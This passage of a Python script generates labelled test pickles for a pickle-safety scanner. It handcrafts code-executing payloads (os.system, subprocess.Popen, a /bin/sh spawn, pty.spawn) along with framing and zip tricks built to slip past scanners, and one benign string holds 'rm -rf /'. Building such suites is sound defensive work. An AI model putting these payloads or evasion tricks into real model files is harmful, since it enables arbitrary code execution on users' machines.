          + REDUCE + b"p2\n" + EMPTY_DICT + b"S'rce_status'\n" + b"g1\n" + b"s" + BUILD + STOP, "dangerous", src + "test_missing_pydoc")
    entry("fickling_multiprocessing.pkl", PROTO5 + frame(74) + sbu("multiprocessing.util") + MEMO + sbu("spawnv_passfds") + MEMO
          + STACK_GLOBAL + MEMO + sbb(b"/bin/sh") + MEMO + EMPTY_LIST + MEMO + MARK + binget(3) + sbb(b"-c") + MEMO + sbb(b"id")
          + MEMO + APPENDS + EMPTY_TUPLE + TUPLE3 + MEMO + REDUCE + MEMO + STOP, "dangerous", src + "test_missing_multiprocessing")
    src = "fickling test/test_cve_patterns.py "
    # Frame(50) and Frame(30) claim more bytes than these pickles hold: CPython's load_frame fails
    # ("pickle data was truncated") before the import, so Python never imports them.
    entry("fickling_subprocess_popen.pkl", PROTO4 + frame(50) + sbu("subprocess") + MEMO + sbu("Popen") + MEMO + STACK_GLOBAL
          + MEMO + STOP, "unreadable", src + "test_submodule_bypass_subprocess_internal (its FRAME claims 50 bytes of 24)")
    entry("fickling_sys_modules.pkl", PROTO4 + frame(30) + sbu("sys") + MEMO + sbu("modules") + MEMO + STACK_GLOBAL + MEMO + STOP,
          "unreadable", src + "test_nested_module_in_unsafe_namespace (its FRAME claims 30 bytes of 19)")
    entry("fickling_subprocess_popen_framed.pkl", PROTO4 + frame(24) + sbu("subprocess") + MEMO + sbu("Popen") + MEMO
          + STACK_GLOBAL + MEMO + STOP, "dangerous", src + "test_submodule_bypass_subprocess_internal, with a frame that fits")
    for name, module, func, args in (("multiprocessing_util", "multiprocessing.util", "spawnv_passfds", ()),
                                     ("ctypes_util", "ctypes.util", "find_library", ("c",)),
                                     ("importlib_util", "importlib.util", "find_spec", ("os",)),
                                     ("code_console", "code", "InteractiveConsole", ()),
                                     ("runpy_run_code", "runpy", "_run_code", ())):
        entry(f"fickling_{name}.pkl", dumps(gadget(module, func, *args)), "dangerous", src + f"make_malicious_pickle({module}.{func})")
    entry("fickling_os_path_join.pkl", dumps(call(os.path.join, "/", "tmp")), "benign",
          src + "test_submodule_bypass_os_path (os.path.join is posixpath.join: harmless, but not on the allow list)",
          ["posixpath.join"])
    osys = dumps(call(os.system, "id"))
    crc = bytearray(zip_bytes([("data.pkl", osys)]))
    cd = crc.find(b"PK\x01\x02")
    for i in range(4):
        crc[cd + 16 + i] ^= 0xFF
    entry("fickling_corrupted_crc.zip", bytes(crc), "dangerous", src + "test_corrupted_zip_still_scanned (central CRC corrupted)")
    entry("fickling_model_data.zip", zip_bytes([("model/data.pkl", osys)]), "dangerous", src + "test_valid_zip_with_malicious_pickle")
    for ext, module, func, args in ((".bin", "os", "system", ("id",)), (".pt", "subprocess", "call", (["id"],)),
                                    (".pth", "builtins", "eval", ("1+1",)), ("", "socket", "socket", ()),
                                    (".txt", "pty", "spawn", ("/bin/sh",))):
        fn = eval if func == "eval" else stand_in(module, func) if module != "os" else os.system
        entry(f"fickling_extension_{ext[1:] or 'none'}{ext}", dumps(call(fn, *args)), "dangerous",
              src + f"test_extension_agnostic_detection ({module}.{func} in a {ext or 'no-extension'} file)")


class SimpleEnum(enum.Enum):
    VALUE_A = "a"


class SimpleIntEnum(enum.IntEnum):
    ONE = 1


class SimpleNamedTuple(typing.NamedTuple):
    x: int
    y: str
    z: float


@dataclasses.dataclass
class SimpleDataclass:
    name: str
    value: int
    items: list


class CustomGetState:
    def __init__(self, value):
        self.value = value

    def __getstate__(self):
        return {"value": self.value}

    def __setstate__(self, state):
        self.value = state["value"]


def benign():
    src = "fickling test/test_benign_edge_cases.py "
    pure = {
        "primitives": [42, 3.14, "hello", True, False, None, -7, 2 ** 70, -(2 ** 100), 1e300, float("inf"), -0.0],
        "list": [1, 2, 3, "a", "b", "c"],
        "dict": {"key": "value", "num": 42},
        "tuple100": tuple(range(100)),
        "nested_list": [[[[[[1, 2, 3]]]]]],
        "nested_dict": {"a": {"b": {"c": {"d": {"e": 1}}}}},
        "large_list": list(range(10000)),
        "large_dict": {f"key_{i}": i for i in range(1000)},
        "unicode": "Hello 世界 🌍 αβγ \\ \n \x00 \ud7ff \ud800 \udfff \\u0041 \x80\xff",
        "empty": [[], {}, (), set(), frozenset(), b"", bytearray()],
        "keywords": {"exec": "value", "eval": "value", "__reduce__": "value", "os": "value", "subprocess": "value",
                     "code": "import os\nos.system('rm -rf /')\neval('malicious')"},
        "bytes": [b"\x00\xff" * 3, bytearray(b"abc"), b"x" * 300],
        "shared": (lambda l: [l, l, {"again": l}])([1, 2]),
        "sets": [{1, 2, 3}, frozenset({"a", "b"}), {(1, 2), (3, 4)}],
    }
    for name, obj in pure.items():
        for v in range(6):
            entry(f"benign_{name}_p{v}.pkl", dumps(obj, v), "benign", src + f"pure data ({name}), protocol {v}")
    objs = [
        ("datetime", datetime.datetime(2024, 1, 2, 3, 4, 5), ["datetime.datetime"]),
        ("date", datetime.date(2024, 1, 2), ["datetime.date"]),
        ("time", datetime.time(12, 30, 45), ["datetime.time"]),
        ("timedelta", datetime.timedelta(days=1, hours=2), ["datetime.timedelta"]),
        ("timezone", datetime.timezone.utc, ["datetime.timezone", "datetime.timedelta"]),
        ("uuid", uuid.UUID("12345678-1234-5678-1234-567812345678"), ["uuid.UUID"]),
        ("decimal", decimal.Decimal("123.456"), ["decimal.Decimal"]),
        ("fraction", fractions.Fraction(1, 3), ["fractions.Fraction"]),
        ("purepath", pathlib.PurePosixPath("/usr/local/bin"), ["pathlib.PurePosixPath"]),
        ("ordereddict", collections.OrderedDict([("a", 1), ("b", 2)]), []),
        ("counter", collections.Counter(["a", "b", "a", "c"]), []),
        # Enum.__reduce_ex__ is (getattr, (cls, name)) since Python 3.11: a benign use of a gadget
        ("enum", SimpleEnum.VALUE_A, ["__main__.SimpleEnum", "builtins.getattr"]),
        ("intenum", SimpleIntEnum.ONE, ["__main__.SimpleIntEnum", "builtins.getattr"]),
        ("namedtuple", SimpleNamedTuple(1, "hello", 3.14), ["__main__.SimpleNamedTuple"]),
        ("dataclass", SimpleDataclass("test", 42, [1, 2, 3]), ["__main__.SimpleDataclass"]),
        ("getstate", CustomGetState(42), ["__main__.CustomGetState"]),
        ("numpy_array", np.array([1, 2, 3, 4, 5]), []),
        ("numpy_2d", np.array([[1, 2, 3], [4, 5, 6]]), []),
        ("numpy_scalars", [np.int32(42), np.float64(3.14)], []),
        ("numpy_structured", np.array([("Alice", 25, 55.0), ("Bob", 30, 75.5)],
                                      dtype=[("name", "U10"), ("age", "i4"), ("weight", "f8")]), []),
    ]
    for name, obj, outside in objs:
        for v in (2, 3, 4):
            entry(f"benign_{name}_p{v}.pkl", dumps(obj, v), "benign", src + f"{name}, protocol {v}", outside)


def reframe(data, every, length):
    """The same protocol 4+ pickle with its FRAME opcodes replaced: a FRAME before every `every`-th
    opcode (at opcode boundaries only), each claiming `length(span)` bytes where span is what runs
    to the next FRAME; a claim shorter than the span ends the frame inside an opcode or its
    argument, which the C unpickler reads on through (pickle.py's _Unframer would raise). Claims
    never reach past STOP."""
    import pickletools
    ops = list(pickletools.genops(data))
    pieces = []
    for k, (op, arg, p) in enumerate(ops):
        end = ops[k + 1][2] if k + 1 < len(ops) else len(data)
        if op.name not in ("PROTO", "FRAME"):
            pieces.append(data[p:end])
    out = bytearray(data[:2])
    groups = [b"".join(pieces[i:i + every]) for i in range(0, len(pieces), every)] if every else [b"".join(pieces)]
    rest = sum(len(g) for g in groups)
    for g in groups:
        if every:
            out += frame(min(length(len(g)), rest))
        out += g
        rest -= len(g)
    return bytes(out)


def framing_variants():
    src = "sdmodel issue #13, framing: "
    data = {"key": [1, 2.5, "text", b"bytes", None, True], "nested": {"a": ("t", 1 << 70)}, "s": {1, 2}}
    for v in (4, 5):
        base = dumps(data, v)
        entry(f"framed_p{v}_original.pkl", base, "benign", src + f"protocol {v} as pickle writes it")
        # Refused: read from a file (as torch.load reads), CPython skips the rest of a frame an
        # opcode runs past, and reads a frame that claims more than its opcodes differently too.
        entry(f"framed_p{v}_tiny.pkl", reframe(base, 1, lambda n: 1), "refused",
              src + "a one-byte frame before every opcode: every argument runs past its frame")
        entry(f"framed_p{v}_split.pkl", reframe(base, 3, lambda n: max(0, n // 2)), "refused",
              src + "frames that end halfway through their opcodes")
        entry(f"framed_p{v}_long.pkl", reframe(base, 4, lambda n: n + 5), "refused",
              src + "frames that claim more than their opcodes, up to STOP at most")
        entry(f"framed_p{v}_zero.pkl", base[:2] + frame(0) + base[2:], "benign", src + "an empty frame first")
        entry(f"framed_p{v}_unframed.pkl", reframe(base, 0, None), "benign", src + "no frame at all")
        nested = base[:2] + frame(len(base) - 2) + base[2:]
        entry(f"framed_p{v}_nested.pkl", nested, "refused", src + "a frame around the whole pickle, frames inside it")
        # Large bytes are written after the frame they follow, unframed, as pickle does at 64 KiB.
        entry(f"framed_p{v}_large_bytes.pkl", dumps({"big": b"\x01" * 70000, "after": [1, 2]}, v), "benign",
              src + "bytes of 70,000: written outside any frame")


def sdmodel_cases():
    src = "sdmodel issue #13: "
    system = dumps(call(os.system, "echo pwned"), 4)
    # A frame that runs past STOP: Python, reading a file, may start the next pickle at the frame's end.
    benign = pickle.dumps([1, 2], protocol=4)   # PROTO 4, FRAME n, ..., STOP
    body = benign[11:]
    padded = PROTO4 + frame(len(body) + len(system)) + body + system
    entry("frame_past_stop.pkl", padded + b"N.", "dangerous", src + "a frame of the first pickle runs past its STOP over a second pickle")
    entry("frame_past_stop_only.pkl", PROTO4 + frame(len(body) + 4) + body + b"N.N.", "refused",
          src + "a frame that runs past STOP (nothing hidden: refused all the same)")
    # An opcode straddling two frames and a frame that ends early: read linearly, as the C unpickler does.
    g = b"cos\nsystem\n"
    entry("frame_straddle.pkl", PROTO4 + frame(5) + g + b"Vecho pwned\n" + TUPLE1 + REDUCE + STOP, "dangerous",
          src + "a frame that ends inside the GLOBAL os.system argument (CPython reads on; pickle.py's _Unframer would not)")
    entry("frame_early.pkl", PROTO4 + frame(3) + sbu("a") + g + b"Vecho\n" + TUPLE1 + REDUCE + STOP, "dangerous",
          src + "a frame that ends before the import (the rest unframed)")
    entry("ext_code.pkl", PROTO2 + b"\x82\x01" + STOP, "dangerous", src + "EXT1: the import comes from the loader's copyreg registry")
    entry("text_int_forms.pkl", b"I0x10\n.", "dangerous", src + "INT in a form only C's strtol reads (refused, not read another way)")
    entry("stop_then_garbage.pkl", dumps({"a": 1}, 2) + b"\xff\xfe garbage", "benign", src + "garbage after STOP (never read)")
    entry("two_pickles_second_unsafe.pkl", dumps([1], 0) + dumps(call(os.system, "id"), 1), "dangerous",
          src + "a protocol 0 pickle followed by a protocol 1 one (no PROTO opcodes)")
    entry("hidden_in_storage.zip", zip_bytes([("archive/data.pkl", dumps(collections.OrderedDict(), 2)),
                                                ("archive/data/0", system)]), "dangerous",
          src + "a pickle in a record not named .pkl")
    entry("empty.zip", zip_bytes([]), "unreadable", src + "a zip with nothing in it")
    entry("no_pickle.zip", zip_bytes([("readme.txt", b"hello\n")]), "unreadable", src + "a zip with nothing to scan")
    entry("tar.pt", b"\x00" * 257 + b"ustar\x0000" + b"\x00" * 250, "unreadable", src + "a tar file (torch before 0.1.10)")
    entry("gzip.pkl", b"\x1f\x8b\x08\x00" + b"\x00" * 16, "unreadable", src + "gzip data")
    entry("lightning_like.ckpt", torch_zip(collections.OrderedDict([
        ("state_dict", small_state_dict()), ("hparams", {"lr": 1e-4, "betas": (0.9, 0.999), "count": np.int64(3)}),
        ("extra", {1, 2}), ("path", b"bytes")])), "benign", src + "a training-checkpoint-like torch file (numpy scalar, set, bytes)")


PROTO2 = b"\x80\x02"


def main():
    if os.path.isdir(OUT):
        shutil.rmtree(OUT)
    os.makedirs(OUT)
    picklescan()
    modelscan()
    fickling()
    benign()
    framing_variants()
    sdmodel_cases()
    with open(os.path.join(HERE, "manifest.json"), "w") as f:
        json.dump(MANIFEST, f, indent=1, ensure_ascii=False)
        f.write("\n")
    print(f"wrote {len(MANIFEST)} files to {OUT}")


if __name__ == "__main__":
    main()
